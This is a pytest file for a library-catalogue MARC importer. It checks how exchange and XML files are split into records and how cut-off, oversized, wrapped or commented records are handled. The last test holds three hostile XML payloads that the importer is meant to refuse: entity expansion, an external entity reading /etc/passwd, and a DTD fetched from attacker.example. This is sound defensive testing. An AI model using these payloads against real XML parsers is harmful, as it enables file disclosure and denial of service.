"""Files cut into records: what is broken in one stays in it, and what is hostile goes no further."""

from io import BytesIO
from pathlib import Path

import pytest

from octavo.importers.marc import splitting
from octavo.importers.marc.splitting import CUT_OFF, TOO_LONG, split_exchange, split_xml
from octavo.importers.onix.guard import FeedRefused
from tests.importers.marc.records import border_town, exchange, record, xml

HERE = Path("library.xml")


def flaws(pieces: list[splitting.Raw]) -> list[str]:
    return [piece.flaw for piece in pieces]


def test_records_are_found_where_they_stand() -> None:
    data = exchange(record()) + b"\r\n" + exchange(border_town()) + b"\x1a\x1a"
    pieces = list(split_exchange(BytesIO(data)))
    assert [data[piece.start : piece.start + len(piece.data)] for piece in pieces] == [piece.data for piece in pieces]
    assert flaws(pieces) == ["", ""]


def test_pieces_of_any_size_give_the_same_records(monkeypatch: pytest.MonkeyPatch) -> None:
    whole = list(split_exchange(BytesIO(exchange(record(), border_town()))))
    in_xml = list(split_xml(HERE, BytesIO(xml(record(), border_town()))))
    assert (len(whole), len(in_xml)) == (2, 2)
    for size in (1, 7, 300):
        monkeypatch.setattr(splitting, "READ_BYTES", size)
        assert list(split_exchange(BytesIO(exchange(record(), border_town())))) == whole
        assert list(split_xml(HERE, BytesIO(xml(record(), border_town())))) == in_xml


def test_a_record_without_an_end_is_told() -> None:
    assert flaws(list(split_exchange(BytesIO(exchange(record()) + exchange(record())[:-10])))) == ["", CUT_OFF]
    assert flaws(list(split_xml(HERE, BytesIO(xml(record())[:-60])))) == [CUT_OFF]


def test_a_huge_record_is_told_and_the_next_is_found() -> None:
    huge = b"0" * (splitting.MAX_RECORD_BYTES + splitting.READ_BYTES)
    assert flaws(list(split_exchange(BytesIO(huge + b"\x1d" + exchange(record()))))) == [TOO_LONG, ""]
    told = b"<collection><record><leader>" + huge + b"</leader></record>" + xml(record())[38:]
    assert flaws(list(split_xml(HERE, BytesIO(told)))) == [TOO_LONG, ""]


def test_what_a_protocol_wraps_round_a_record_is_not_the_record() -> None:
    inner = xml(record())
    inner = inner[inner.index(b"<record") : inner.index(b"</collection>")]
    data = b"<OAI-PMH><ListRecords><record><header/><metadata>" + inner + b"</metadata></record></ListRecords></OAI-PMH>"
    assert [piece.data for piece in split_xml(HERE, BytesIO(data))] == [inner]


def test_a_record_in_a_comment_is_none() -> None:
    data = b"<collection><!-- " + xml(record()) + b" --><record></record></collection>"
    assert [piece.data for piece in split_xml(HERE, BytesIO(data))] == [b"<record></record>"]


@pytest.mark.parametrize(
    "subset",
    [
        b'<!DOCTYPE c [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        b'<!DOCTYPE c [<!ENTITY file SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE c SYSTEM "http://attacker.example/x.dtd">',
    ],
)
def test_a_doctype_refuses_the_whole_file(subset: bytes) -> None:
    with pytest.raises(FeedRefused, match="DOCTYPE"):
        list(split_xml(HERE, BytesIO(b"<?xml version='1.0'?>" + subset + xml(record())[38:])))
